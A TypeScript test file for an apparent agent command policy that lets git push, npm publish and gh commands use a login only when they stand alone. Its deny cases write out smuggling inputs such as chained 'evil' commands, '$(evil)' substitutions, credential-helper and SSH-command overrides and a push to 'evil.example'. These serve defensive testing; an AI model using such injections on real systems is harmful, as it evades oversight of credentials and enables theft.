import { describe, expect, test } from "vitest";
import { analyseCommand } from "#command/analyse-command";
import type { Effect } from "#effect";
import { keyCommand, namedKey } from "#keys/key-command";
import { createKeysPolicy } from "#policies/commands/keys";

const analysed = (text: string) => analyseCommand(text, { cwd: "/work", home: "/home/me" });

describe("a command that needs a login, by itself", () => {
  test.each<[string, object]>([
    ["git push", { type: "push", options: [], remote: undefined, refspecs: [], skipsHook: false, setsUpstream: false }],
    ["git push origin main", { remote: "origin", refspecs: ["main"] }],
    ["git push -u origin HEAD", { remote: "origin", refspecs: ["HEAD"], setsUpstream: true, options: [] }],
    ["git push -uf origin a b", { options: ["-f"], setsUpstream: true, refspecs: ["a", "b"] }],
    ["git push --force-with-lease origin 'a b' 2>&1", { options: ["--force-with-lease"], refspecs: ["a b"] }],
    ["git push -o ci.skip --no-verify origin x", { options: ["--push-option=ci.skip"], skipsHook: true }],
    ["git push git@git.example:me/r.git v1:v1", { remote: "git@git.example:me/r.git", refspecs: ["v1:v1"] }],
    ["npm publish", { type: "publish", manager: "npm", options: [], operand: undefined, registry: undefined }],
    ["npm publish --access=public --tag next ./pkg", { options: ["--access=public", "--tag=next"], operand: "./pkg" }],
    [
      "pnpm publish --no-git-checks --registry http://127.0.0.1:1/",
      { manager: "pnpm", registry: "http://127.0.0.1:1/" },
    ],
    ["npm publish --ignore-scripts", { skipsScripts: true }],
    ["gh pr list", { type: "gh", words: ["pr", "list"], host: undefined }],
    ["gh issue view 1 -R git.example/o/r", { host: "git.example" }],
    ["gh api --hostname=git.example /user", { host: "git.example" }],
    ["gh pr view 1 --repo o/r", { host: undefined }],
    [
      `gh pr create --title "Mend it" --body "$(cat <<'EOF'\nA line with "quotes", \`ticks\`, $X and 'more'\n\n- one\nEOF\n)"`,
      {
        words: [
          "pr",
          "create",
          "--title",
          "Mend it",
          "--body",
          "A line with \"quotes\", `ticks`, $X and 'more'\n\n- one",
        ],
      },
    ],
  ])("%s", (text, expected) => {
    expect(keyCommand(text)).toMatchObject(expected);
  });
});

describe("is refused with anything around it, and with options that lead it elsewhere", () => {
  test.each([
    "git push origin x && evil",
    "npm publish dist/*",
    "git push origin src/*",
    'git push origin "$(git branch --show-current)"',
    "evil; git push",
    "git add -A && git commit -m x && git push",
    "cd sub && git push",
    "git -C sub push",
    "git -c credential.helper=evil push",
    "git -c core.sshCommand=evil push origin main",
    "GIT_SSH_COMMAND=evil git push",
    "env GIT_SSH=evil git push",
    "sudo git push",
    "bash -c 'git push'",
    "git push | tee log",
    "git push > log",
    "git push < in",
    "git push &",
    "git push $REMOTE main",
    "git push $(evil) main",
    "git push origin `evil`",
    "git push origin {a,b}",
    "git push origin *",
    "if true; then git push; fi",
    "git push --repo=https://evil.example/x",
    "git push --receive-pack=evil origin",
    "git push --exec evil origin",
    "git push --recurse-submodules=on-demand origin",
    "git push --signed origin",
    "npm publish && evil",
    "npm publish --userconfig=/tmp/x",
    "npm publish --script-shell ./evil",
    "npm publish --node-options=--require=./evil.js",
    "npm publish -w packages/a",
    "npm publish github:me/r",
    "npm --prefix x publish",
    "gh pr list | sh",
    "gh pr create --body $(evil)",
    `gh pr create --body "$(cat <<EOF\n$(evil)\nEOF\n)"`,
    `gh pr create --body "$(cat <<'EOF'\na\nEOF\nevil\n)"`,
    `gh pr create --body "$(cat <<'EOF'\na\nEOF\n)"; evil`,
  ])("%s", (text) => {
    expect(keyCommand(text)).toBeUndefined();
    expect(namedKey(analysed(text).commands)?.what).toMatch(/^(?:git push|npm publish|gh \w+)$/);
    expect(decided({ type: "exec", command: analysed(text), cwd, where: "server", staged: true })).toBe(
      "deny keys/alone",
    );
  });
});

test.each([
  "git pull",
  "git push ../beside.git main",
  "git push /srv/r.git",
  "gh auth token",
  "gh extension install x",
  "npm run publish",
  "npm pack",
  "echo git push",
])("no login goes to %s", (text) => {
  const command = analysed(text);
  expect(namedKey(command.commands)).toBeUndefined();
  expect(decided({ type: "exec", command, cwd, where: "server", staged: true })).toBe("allow");
});

test("a command of its own is let through to the question, and a login is asked about", () => {
  expect(decided({ type: "exec", command: analysed("git push origin x"), cwd, where: "server", staged: true })).toBe(
    "allow",
  );
  expect(decided({ type: "net", url: "https://git.example:443", login: "the login of store" })).toBe("ask keys/use");
  expect(decided({ type: "net", url: "https://git.example:443" })).toBe("allow");
});

const cwd = { raw: ".", relative: "", absolute: "/work", inside: true };

function decided(effect: Effect): string {
  const verdict = createKeysPolicy().decide(
    {
      callId: "c",
      toolName: "Bash",
      args: {},
      access: "change",
      analysis: { statement: "", effects: [effect] },
      sessionId: "s",
      turnId: "t",
    },
    { signal: new AbortController().signal },
  );
  if (verdict instanceof Promise) throw new Error("It answers at once.");
  return verdict.type === "allow" ? "allow" : `${verdict.type} ${verdict.finding.rule}`;
}
